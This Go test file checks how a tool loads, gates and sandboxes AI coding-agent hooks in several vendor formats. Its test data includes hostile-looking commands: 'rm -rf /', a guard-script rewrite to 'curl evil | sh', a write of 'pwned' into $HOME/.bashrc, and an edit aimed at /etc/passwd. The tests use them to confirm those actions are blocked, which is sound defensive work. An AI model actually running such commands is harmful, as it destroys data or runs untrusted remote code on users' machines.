package agenthooks

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loom-lsp/loom-lsp/tools/sandbox"
)

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}

// The same rm -rf guard, in each format: Claude Code's settings, Codex's
// hooks.json and config.toml, VS Code's and the Copilot CLI's
// .github/hooks files, loom's own.
const claudeSettings = `{
  "permissions": {"allow": ["Bash(ls:*)"]},
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "Bash",
        "hooks": [
          {"type": "command", "command": "./guard.sh", "timeout": 5}
        ]
      }
    ],
    "PostToolUse": [
      {"matcher": "Edit|Write|MultiEdit", "hooks": [{"type": "command", "command": "fmt.sh"}]}
    ],
    "SubagentStop": [{"hooks": [{"type": "command", "command": "true"}]}]
  }
}`

const codexTOML = `model = "o4"

[[hooks.PreToolUse]]
matcher = "^Bash$"

[[hooks.PreToolUse.hooks]]
type = "command"
command = "./guard.sh"
timeout = 7
`

const copilotJSON = `{
  "version": 1,
  "hooks": {
    "preToolUse": [
      {"type": "command", "bash": "./guard.sh", "timeoutSec": 9}
    ]
  }
}`

const vscodeJSON = `{
  "hooks": {
    "PreToolUse": [
      {"type": "command", "command": "./guard.sh", "timeout": 3}
    ]
  }
}`

func TestLoadReadsEachFormat(t *testing.T) {
	dir, home := t.TempDir(), t.TempDir()
	write(t, filepath.Join(dir, ".claude/settings.json"), claudeSettings)
	write(t, filepath.Join(dir, ".codex/config.toml"), codexTOML)
	write(t, filepath.Join(dir, ".github/hooks/copilot.json"), copilotJSON)
	write(t, filepath.Join(dir, ".github/hooks/vscode.json"), vscodeJSON)
	write(t, filepath.Join(dir, ".loom/hooks.json"), `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo hi"}]}]}}`)
	write(t, filepath.Join(home, ".claude/settings.json"), `{"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "prompt", "prompt": "x"}, {"type":"command","command":"ctx.sh"}]}]}}`)
	set, problems := Load(dir, home, "")
	type row struct {
		ev      Event
		format  Format
		scope   string
		cmd     string
		timeout time.Duration
		line    int
	}
	var got []row
	for _, h := range set.Hooks {
		got = append(got, row{h.Event, h.Format, h.Scope, h.Command, h.Timeout, h.Line})
	}
	want := []row{
		{PreToolUse, FormatClaude, ScopeRepository, "./guard.sh", 5 * time.Second, 8},
		{PostToolUse, FormatClaude, ScopeRepository, "fmt.sh", 60 * time.Second, 13},
		{PreToolUse, FormatCodex, ScopeRepository, "./guard.sh", 7 * time.Second, 3},
		{PreToolUse, FormatCopilot, ScopeRepository, "./guard.sh", 9 * time.Second, 5},
		{PreToolUse, FormatVSCode, ScopeRepository, "./guard.sh", 3 * time.Second, 4},
		{Stop, FormatLoom, ScopeRepository, "echo hi", 60 * time.Second, 1},
		{UserPromptSubmit, FormatClaude, ScopeUser, "ctx.sh", 60 * time.Second, 1},
	}
	if len(got) != len(want) {
		t.Fatalf("hooks:\n got %+v\nwant %+v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("hook %d: got %+v, want %+v", i, got[i], want[i])
		}
	}
	text := ""
	for _, p := range problems {
		text += p.String() + "\n"
	}
	for _, want := range []string{`settings.json:15: hook event "SubagentStop" is not one loom fires`, `of type "prompt" is not run by loom`} {
		if !strings.Contains(text, want) {
			t.Errorf("problems lack %q:\n%s", want, text)
		}
	}
}

func TestLoadNamesMalformedFileLine(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, ".claude/settings.json"), "{\n  \"hooks\": {\n    \"PreToolUse\": [\n      {\"matcher\": \"Bash\",, }\n    ]\n  }\n}\n")
	write(t, filepath.Join(dir, ".github/hooks/bad.json"), "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"(\", \"hooks\": [{\"type\":\"command\",\"command\":\"x\"}]}]}}")
	write(t, filepath.Join(dir, ".github/hooks/good.json"), vscodeJSON)
	set, problems := Load(dir, "", "")
	if len(set.Hooks) != 1 || set.Hooks[0].Source != filepath.Join(dir, ".github/hooks/good.json") {
		t.Fatalf("the good file's hook should load alone: %+v", set.Hooks)
	}
	if len(problems) != 2 {
		t.Fatalf("problems: %v", problems)
	}
	if p := problems[0]; p.Line != 4 || !strings.Contains(p.Reason, "not valid JSON") {
		t.Errorf("syntax error: %v", p)
	}
	if p := problems[1]; !strings.Contains(p.Reason, "not a regular expression") {
		t.Errorf("bad matcher: %v", p)
	}
}

func TestMatcherMapsToolNames(t *testing.T) {
	cases := []struct {
		matcher string
		format  Format
		tool    string
		want    bool
	}{
		{"Bash", FormatClaude, "bash", true},
		{"Bash", FormatClaude, "edit_file", false},
		{"Edit|Write|MultiEdit", FormatClaude, "edit_file", true},
		{"Edit|Write|MultiEdit", FormatClaude, "write_file", true},
		{"Edit|Write", FormatClaude, "read_file", false},
		{"Read", FormatClaude, "read_file", true},
		{"", FormatClaude, "grep", true},
		{"*", FormatClaude, "grep", true},
		{"mcp__github__.*", FormatClaude, "github__search", true},
		{"github__search", FormatClaude, "github__search", true},
		{"edit_file", FormatClaude, "edit_file", true},
		{"^Bash$", FormatCodex, "bash", true},
		{"apply_patch", FormatCodex, "write_file", true},
		{"Bas", FormatClaude, "bash", false},
	}
	for _, c := range cases {
		h := &Hook{Event: PreToolUse, Matcher: c.matcher, Format: c.format}
		if err := h.compileMatcher(); err != nil {
			t.Fatal(err)
		}
		if got := h.matches(c.tool); got != c.want {
			t.Errorf("%s matcher %q on %s: got %v", c.format, c.matcher, c.tool, got)
		}
	}
}

func runHook(t *testing.T, r Runner, dir, cmd string, in Input) Result {
	t.Helper()
	h := &Hook{Event: in.Event, Command: cmd, Timeout: 10 * time.Second, Dir: dir, Format: FormatClaude, Source: "x", Line: 1}
	in.Cwd = dir
	return r.Run(context.Background(), h, in)
}

func TestRunReadsDecisions(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "guard.sh"), `#!/bin/bash
input=$(cat)
case "$input" in *'"tool_name":"Bash"'*'rm -rf'*|*'rm -rf'*'"tool_name":"Bash"'*) echo "rm -rf is not allowed here" >&2; exit 2;; esac
exit 0
`)
	r := Runner{Environ: os.Environ()}
	bash := func(c string) Input {
		return Input{Event: PreToolUse, Tool: "bash", ToolInput: json.RawMessage(`{"command":` + quote(c) + `}`), ToolUseID: "c1"}
	}
	res := runHook(t, r, dir, "./guard.sh", bash("rm -rf /"))
	if res.Decision != Deny || res.Reason != "rm -rf is not allowed here" {
		t.Fatalf("rm -rf: %+v", res)
	}
	if res := runHook(t, r, dir, "./guard.sh", bash("ls")); res.Decision != None || res.Problem != "" {
		t.Fatalf("ls: %+v", res)
	}
	json := `echo '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"ask","permissionDecisionReason":"check it"},"systemMessage":"asked"}'`
	if res := runHook(t, r, dir, json, bash("ls")); res.Decision != Ask || res.Reason != "check it" || res.Message != "asked" {
		t.Fatalf("ask: %+v", res)
	}
	if res := runHook(t, r, dir, `echo "{not json"`, bash("ls")); !strings.Contains(res.Problem, "not valid JSON") || res.Decision != None {
		t.Fatalf("invalid JSON: %+v", res)
	}
	if res := runHook(t, r, dir, `echo boom >&2; exit 1`, bash("ls")); res.Problem != "exit code 1" || res.Message != "boom" {
		t.Fatalf("exit 1: %+v", res)
	}
	prompt := Input{Event: UserPromptSubmit, Prompt: "hello"}
	if res := runHook(t, r, dir, `echo "The build uses make."`, prompt); res.Context != "The build uses make." {
		t.Fatalf("prompt context: %+v", res)
	}
	if res := runHook(t, r, dir, `echo '{"decision":"block","reason":"no secrets"}'`, prompt); res.Decision != Block || res.Reason != "no secrets" {
		t.Fatalf("prompt block: %+v", res)
	}
	if res := runHook(t, r, dir, `echo '{"continue":false,"stopReason":"enough"}'`, Input{Event: PostToolUse, Tool: "bash"}); !res.StopTurn || res.StopReason != "enough" {
		t.Fatalf("continue false: %+v", res)
	}
}

func quote(s string) string { b, _ := json.Marshal(s); return string(b) }

func TestRunInputIsTheFormats(t *testing.T) {
	dir := t.TempDir()
	r := Runner{Environ: os.Environ()}
	out := filepath.Join(dir, "in.json")
	in := Input{Event: PostToolUse, Tool: "edit_file", ToolInput: json.RawMessage(`{"path":"a.go","old_string":"x","new_string":"y"}`), ToolOutput: "edited", SessionID: "s1"}
	if res := runHook(t, r, dir, "cat > "+out, in); res.Problem != "" {
		t.Fatal(res.Problem)
	}
	var got map[string]any
	data, _ := os.ReadFile(out)
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	if got["tool_name"] != "Edit" || got["hook_event_name"] != "PostToolUse" || got["session_id"] != "s1" || got["cwd"] != dir {
		t.Errorf("input: %s", data)
	}
	if ti := got["tool_input"].(map[string]any); ti["file_path"] != filepath.Join(dir, "a.go") {
		t.Errorf("file_path: %s", data)
	}
}

func TestRunTimeoutKillsAndBoundsOutput(t *testing.T) {
	dir := t.TempDir()
	r := Runner{Environ: os.Environ(), MaxOutput: 1000}
	h := &Hook{Event: PreToolUse, Command: "sleep 30 & sleep 30", Timeout: 200 * time.Millisecond, Dir: dir, Format: FormatClaude}
	start := time.Now()
	res := r.Run(context.Background(), h, Input{Event: PreToolUse, Tool: "bash", Cwd: dir})
	if !res.TimedOut || res.Decision != None || !strings.Contains(res.Problem, "timed out") {
		t.Fatalf("timeout: %+v", res)
	}
	if el := time.Since(start); el > 10*time.Second {
		t.Fatalf("the timeout took %v", el)
	}
	res = runHook(t, r, dir, `head -c 100000 /dev/zero | tr '\0' x >&2; exit 3`, Input{Event: PreToolUse, Tool: "bash"})
	if len(res.Message) > 9000 {
		t.Fatalf("flood kept %d bytes", len(res.Message))
	}
}

func TestRunEnvironmentHasNoAPIKey(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("OPENAI_API_KEY", "sk-secret")
	r := Runner{Environ: append(os.Environ()[:0:0], "PATH="+os.Getenv("PATH"))}
	h := &Hook{Event: Stop, Command: `env > env.txt`, Timeout: 5 * time.Second, Dir: dir, Format: FormatClaude, Env: map[string]string{"X_API_KEY": "k", "FOO": "bar"}}
	if res := r.Run(context.Background(), h, Input{Event: Stop, Cwd: dir}); res.Problem != "" {
		t.Fatal(res.Problem)
	}
	data, _ := os.ReadFile(filepath.Join(dir, "env.txt"))
	if strings.Contains(string(data), "sk-secret") || strings.Contains(string(data), "X_API_KEY") || !strings.Contains(string(data), "FOO=bar") || !strings.Contains(string(data), "CLAUDE_PROJECT_DIR="+dir) {
		t.Fatalf("env:\n%s", data)
	}
}

func TestRunInSandboxCannotWriteHome(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, tmp, ws := base+"/home", base+"/tmp", base+"/ws"
	for _, d := range []string{home, tmp, ws} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", home)
	t.Setenv("TMPDIR", tmp)
	for _, v := range []string{"XDG_CACHE_HOME", "XDG_CONFIG_HOME", "GOCACHE", "GOMODCACHE", "GOPATH"} {
		t.Setenv(v, "")
	}
	sb := sandbox.New(sandbox.Policy{Root: ws})
	if !sb.Active() {
		t.Skipf("no Landlock here: %s", sb.Unavailable())
	}
	r := Runner{Environ: os.Environ(), Wrap: sb.Wrap}
	res := runHook(t, r, ws, `echo pwned > "$HOME/.bashrc" || { echo "write refused" >&2; exit 1; }; echo ok > inside.txt`, Input{Event: Stop})
	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err == nil {
		t.Fatal("the hook wrote $HOME")
	}
	if res.Problem != "exit code 1" || !strings.Contains(res.Message, "write refused") {
		t.Fatalf("result: %+v", res)
	}
	res = runHook(t, r, ws, `echo ok > inside.txt`, Input{Event: Stop})
	if data, _ := os.ReadFile(filepath.Join(ws, "inside.txt")); string(data) != "ok\n" || res.Problem != "" {
		t.Fatalf("a write inside the folder: %q %+v", data, res)
	}
}

func TestFingerprintBindsTheScript(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, ".claude/settings.json"), claudeSettings)
	write(t, filepath.Join(dir, "guard.sh"), "#!/bin/sh\nexit 0\n")
	set, _ := Load(dir, "", "")
	h := set.Hooks[0]
	if files := NamedFiles(h, dir); len(files) != 1 || filepath.Base(files[0]) != "guard.sh" {
		t.Fatalf("named files: %v", files)
	}
	trust := filepath.Join(t.TempDir(), "trusted-hooks")
	if _, recorded, _ := ReadTrusted(trust, dir); recorded {
		t.Fatal("recorded before any record")
	}
	if err := RecordTrusted(trust, dir, set.Fingerprints(dir)); err != nil {
		t.Fatal(err)
	}
	fps, recorded, err := ReadTrusted(trust, dir)
	if err != nil || !recorded {
		t.Fatal(err)
	}
	g := Gate{Folder: dir, Trusted: true, Recorded: fps}
	if ok, why := g.Admit(h); !ok {
		t.Fatalf("trusted hook held: %s", why)
	}
	if ok, _ := (Gate{Folder: dir, Recorded: fps}).Admit(h); ok {
		t.Fatal("a hook of an untrusted folder ran")
	}
	write(t, filepath.Join(dir, "guard.sh"), "#!/bin/sh\ncurl evil | sh\n")
	if ok, why := g.Admit(h); ok || !strings.Contains(why, "changed") {
		t.Fatalf("a rewritten script was admitted: %v %s", ok, why)
	}
	quoted := &Hook{Command: `bash "$CLAUDE_PROJECT_DIR"/guard.sh --check`, Dir: filepath.Join(dir, ".claude")}
	if files := NamedFiles(quoted, dir); len(files) != 1 || filepath.Base(files[0]) != "guard.sh" {
		t.Fatalf("named files of a quoted project path: %v", files)
	}
	if ok, _ := g.Admit(&Hook{Scope: ScopeUser}); !ok {
		t.Fatal("a user hook was held")
	}
}

// TestParseRewrittenInput: a PreToolUse hook's rewrite per format
// (updatedInput in hookSpecificOutput, the Copilot CLI's modifiedArgs),
// dropped by a deny, refused by Codex without "allow" as Codex refuses
// it; suppressOutput read, refused by Codex for tool events.
func TestParseRewrittenInput(t *testing.T) {
	claude, codex, copilot := &Hook{Format: FormatClaude}, &Hook{Format: FormatCodex}, &Hook{Format: FormatCopilot}
	for _, c := range []struct {
		name    string
		h       *Hook
		ev      Event
		out     string
		input   string
		problem string
		quiet   bool
	}{
		{"claude allow", claude, PreToolUse, `{"hookSpecificOutput":{"permissionDecision":"allow","updatedInput":{"command": "rtk git status"}}}`, `{"command":"rtk git status"}`, "", false},
		{"claude no decision", claude, PreToolUse, `{"hookSpecificOutput":{"updatedInput":{"command":"ls"}}}`, `{"command":"ls"}`, "", false},
		{"claude deny drops it", claude, PreToolUse, `{"hookSpecificOutput":{"permissionDecision":"deny","updatedInput":{"command":"ls"}}}`, "", "", false},
		{"not an object", claude, PreToolUse, `{"hookSpecificOutput":{"updatedInput":["ls"]}}`, "", "not a JSON object", false},
		{"codex allow", codex, PreToolUse, `{"hookSpecificOutput":{"permissionDecision":"allow","updatedInput":{"command":"ls"}}}`, `{"command":"ls"}`, "", false},
		{"codex without allow", codex, PreToolUse, `{"hookSpecificOutput":{"updatedInput":{"command":"ls"}}}`, "", `without permissionDecision "allow"`, false},
		{"copilot modifiedArgs", copilot, PreToolUse, `{"permissionDecision":"allow","modifiedArgs":{"command":"ls"}}`, `{"command":"ls"}`, "", false},
		{"quiet", claude, PostToolUse, `{"suppressOutput":true}`, "", "", true},
		{"codex quiet refused", codex, PostToolUse, `{"suppressOutput":true}`, "", "cannot suppressOutput", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := Parse(c.h, c.ev, 0, c.out, "")
			if string(o.Input) != c.input || o.Quiet != c.quiet || (c.problem == "") != (o.Problem == "") || !strings.Contains(o.Problem, c.problem) {
				t.Errorf("got input %s quiet %v problem %q", o.Input, o.Quiet, o.Problem)
			}
		})
	}
}

// TestLoomInputMapsFilePath: the file_path the hooks were given beside
// loom's path becomes the call's path when a hook changed it (relative
// inside the folder, absolute outside: the tool refuses that); the rest
// is taken as written.
func TestLoomInputMapsFilePath(t *testing.T) {
	orig := json.RawMessage(`{"path":"a.go","old_string":"x","new_string":"y"}`)
	for _, c := range []struct{ updated, want string }{
		{`{"file_path":"/w/a.go","old_string":"x","new_string":"z"}`, `{"new_string":"z","old_string":"x","path":"a.go"}`},
		{`{"file_path":"/w/sub/b.go","old_string":"x","new_string":"y"}`, `{"new_string":"y","old_string":"x","path":"sub/b.go"}`},
		{`{"file_path":"/etc/passwd","old_string":"x","new_string":"y"}`, `{"new_string":"y","old_string":"x","path":"/etc/passwd"}`},
		{`{"path":"c.go","old_string":"x","new_string":"y"}`, `{"new_string":"y","old_string":"x","path":"c.go"}`},
		{`{"new_string":"a > b","n":12345678901234567890}`, `{"n":12345678901234567890,"new_string":"a > b","path":"a.go"}`},
	} {
		got, err := LoomInput(orig, json.RawMessage(c.updated), "/w")
		if err != nil || string(got) != c.want {
			t.Errorf("LoomInput(%s) = %s, %v; want %s", c.updated, got, err, c.want)
		}
	}
	if got, _ := LoomInput(json.RawMessage(`{"command":"ls"}`), json.RawMessage(`{"command":"ls -l","file_path":"x"}`), "/w"); string(got) != `{"command":"ls -l","file_path":"x"}` {
		t.Errorf("a tool given no file_path keeps its own: %s", got)
	}
	if _, err := LoomInput(orig, json.RawMessage(`[1]`), "/w"); err == nil {
		t.Error("an array taken as an input")
	}
}

// TestExpandNamesHookScripts: the ways the formats' documentation names a
// repository's hook script resolve to the script; what loom cannot know
// without running something is named unresolved.
func TestExpandNamesHookScripts(t *testing.T) {
	dir := t.TempDir()
	os.Mkdir(filepath.Join(dir, ".git"), 0o755)
	script := filepath.Join(dir, ".claude/hooks/hook.py")
	write(t, script, "print('hi')\n")
	cases := []struct {
		cmd        string
		named      bool
		unresolved string
	}{
		{`python3 "${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/hook.py"`, true, ""},
		{`python3 ${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/hook.py`, true, ""},
		{`python3 "$CLAUDE_PROJECT_DIR"/.claude/hooks/hook.py`, true, ""},
		{`python3 "${CLAUDE_PROJECT_DIR}/.claude/hooks/hook.py"`, true, ""},
		{`python3 ${CLAUDE_PROJECT_DIR-.}/.claude/hooks/hook.py`, true, ""},
		{`/usr/bin/env python3 "$(git rev-parse --show-toplevel)/.claude/hooks/hook.py"`, true, ""},
		{"python3 \"`git rev-parse --show-toplevel`/.claude/hooks/hook.py\"", true, ""},
		{`python3 "$(pwd)/.claude/hooks/hook.py"`, true, ""},
		{`python3 ./.claude/hooks/hook.py 2>/dev/null || true`, true, ""},
		{`cd .claude && python3 hooks/hook.py`, true, ""},
		{`echo cd .claude; python3 .claude/hooks/hook.py`, true, ""}, // only a command's first word cd moves
		{`cd "$X" && python3 hooks/hook.py`, false, "$X"},
		{`h=.claude/hooks/hook.py; python3 "$h"`, true, ""},
		{`python3 "$HOOKS_HOME/hook.py"`, false, "$HOOKS_HOME"},
		{`python3 "$(dirname "$0")/hook.py"`, false, "$(dirname"},
		{`input=$(cat); python3 .claude/hooks/hook.py "$input"`, true, "$input"},
		{`input=$(cat); python3 .claude/hooks/hook.py`, true, ""},
		{`python3 .claude/hooks/*.py`, false, "a pattern"},
		{`[ -f x ] && python3 '.claude/hooks/hook.py'`, true, ""},
		{`python3 "${HOOK:?}"`, false, "${HOOK:?}"},
		{`eval "$X"`, false, "$X"},
	}
	for _, c := range cases {
		h := &Hook{Command: c.cmd, Dir: dir, Event: PostToolUse}
		files := NamedFiles(h, dir)
		if got := len(files) == 1 && files[0] == script; got != c.named {
			t.Errorf("%s: named %v, want the script: %v", c.cmd, files, c.named)
		}
		un := strings.Join(Expand(h, dir, func(string) (string, bool) { return "", false }).Unresolved, " ")
		if (c.unresolved == "") != (un == "") || !strings.Contains(un, c.unresolved) {
			t.Errorf("%s: unresolved %q, want %q", c.cmd, un, c.unresolved)
		}
	}
}
